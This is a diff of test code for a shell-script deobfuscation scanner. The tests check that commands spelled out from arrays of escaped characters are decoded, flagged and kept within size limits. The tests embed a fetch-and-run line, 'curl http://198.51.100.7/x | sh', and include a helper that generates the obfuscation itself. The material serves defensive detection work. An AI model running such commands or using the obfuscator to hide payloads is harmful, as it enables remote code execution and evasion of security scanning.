@@ -3,13 +3,15 @@ findings are recorded; ordinary scripts produce nothing."""
 
 from __future__ import annotations
 
+import random
 from collections.abc import Callable
 
 import pytest
 
 from inspector.stage import ScanContext, ScanLimits
+from inspector.deobfuscate.common import DeobfuscationLimits
 from inspector.deobfuscate.shell import ShellLayer
-from inspector.model import ArtifactType
+from inspector.model import ArtifactType, ErrorKind
 from tests.deobfuscate.conftest import SHELL_COMMANDS
 from tests.deobfuscate.peeling import payload_of, peel
 from tests.obfuscation import obfuscators as ob
@@ -121,3 +123,77 @@ def test_one_array_lookup_or_an_unknown_glob_is_not_obfuscation() -> None:
     assert "deobf.shell.char_array" not in peel("a=(x y); echo ${a[1]}", SH).finding_ids
     assert "deobf.shell.glob_path" not in peel("rm -f /var/log/app/*.log /tmp/??zz", SH).finding_ids
     assert "deobf.shell.brace_command" not in peel("mkdir -p /srv/{a,b}; cp x{,.bak}", SH).finding_ids
+
+
+# --- commands rebuilt from arrays of escaped characters (Bashfuscator-style) ----------------
+
+def _escaped_char(ch: str, style: str) -> str:
+    if style == "hex":
+        return "$'\\x%02x'" % ord(ch) if ord(ch) < 128 else "$'\\u%04x'" % ord(ch)
+    if style == "octal":
+        return "$'\\%03o'" % ord(ch) if ord(ch) < 128 else "$'\\u%04x'" % ord(ch)
+    return "$'\\u%04x'" % ord(ch)
+
+
+def _char_array_script(command: str, style: str, shape: str, seed: int) -> str:
+    """`a=($'\\x..' ...)` then the command spelled by indices and run by `shape`."""
+    rng = random.Random(seed)
+    alphabet = sorted(set(command), key=lambda _: rng.random())
+    items = " ".join(_escaped_char(ch, style) for ch in alphabet)
+    spelled = "".join("${q%d[%d]}" % (seed, alphabet.index(ch)) for ch in command)
+    run = {"eval": f'eval "{spelled}"', "bash-c": f'bash -c "{spelled}"', "substitution": f"x=$({spelled})"}[shape]
+    return f"q{seed}=({items})\n{run}\n"
+
+
+@pytest.mark.parametrize("seed", [0, 1])
+@pytest.mark.parametrize("shape", ["eval", "bash-c", "substitution"])
+@pytest.mark.parametrize("style", ["hex", "octal", "unicode"])
+@pytest.mark.parametrize("command", SHELL_COMMANDS, ids=["curl-pipe", "dev-tcp", "quotes"])
+def test_command_spelled_from_an_array_of_escaped_characters_becomes_a_decoded_layer(
+        command: str, style: str, shape: str, seed: int) -> None:
+    obfuscated = _char_array_script(command, style, shape, seed)
+    result = peel(obfuscated, SH)
+    assert command in result.texts[1:], obfuscated
+    assert "char-array" in result.techniques
+    assert "deobf.shell.char_array" in result.finding_ids
+
+
+def test_the_rebuilt_command_layer_runs_as_shell_and_points_at_the_spelled_text() -> None:
+    script = _char_array_script("curl http://198.51.100.7/x | sh", "hex", "eval", 0)
+    out = ShellLayer().analyze(payload_of(script.encode(), SH), ScanContext(ScanLimits()))
+    (child,) = out.children
+    assert child.data == b"curl http://198.51.100.7/x | sh"
+    assert child.origin == "decoded:char-array" and child.type_hint == SH
+    span = child.layer.span
+    assert span.line == 2 and script[span.offset:span.offset + span.length].startswith("${q0[")
+    assert out.urls == ["http://198.51.100.7/x"]
+
+
+def test_a_command_with_an_unknown_element_is_not_guessed() -> None:
+    script = "a=($'\\x63' $'\\x75' $'\\x72' $'\\x6c')\neval \"${a[0]}${a[1]}${a[9]}${a[3]}\"\n"
+    result = peel(script, SH)
+    assert "char-array" not in result.techniques
+    assert not any("cu" in t and "l" in t for t in result.texts[1:] if "${" not in t)
+
+
+def test_array_elements_past_the_limit_are_dropped_and_reported() -> None:
+    script = _char_array_script("curl http://198.51.100.7/x | sh", "hex", "eval", 0)
+    out = ShellLayer(DeobfuscationLimits(max_array_items=3)).analyze(payload_of(script.encode(), SH),
+                                                                     ScanContext(ScanLimits()))
+    assert not any(c.origin == "decoded:char-array" for c in out.children)
+    assert any(kind == ErrorKind.LIMIT_DEOBFUSCATION_SIZE and "elements" in detail for kind, detail in out.errors)
+
+
+def test_a_rebuilt_command_over_the_size_limit_is_reported_not_emitted() -> None:
+    script = _char_array_script("curl http://198.51.100.7/x | sh " + "A" * 200, "hex", "eval", 0)
+    out = ShellLayer(DeobfuscationLimits(max_child_bytes=64)).analyze(payload_of(script.encode(), SH),
+                                                                      ScanContext(ScanLimits()))
+    assert not any(c.origin == "decoded:char-array" for c in out.children)
+    assert any(kind == ErrorKind.LIMIT_DEOBFUSCATION_SIZE and "rebuilt" in detail for kind, detail in out.errors)
+
+
+def test_an_ordinary_array_loop_is_not_a_rebuilt_command() -> None:
+    script = ("pkgs=(nginx 'jq' \"curl\")\nfor p in \"${pkgs[@]}\"; do apt-get install -y \"$p\"; done\n"
+              "echo \"first: ${pkgs[0]}\"\n")
+    result = peel(script, SH)
+    assert result.layers[1:] == [] and result.findings == []
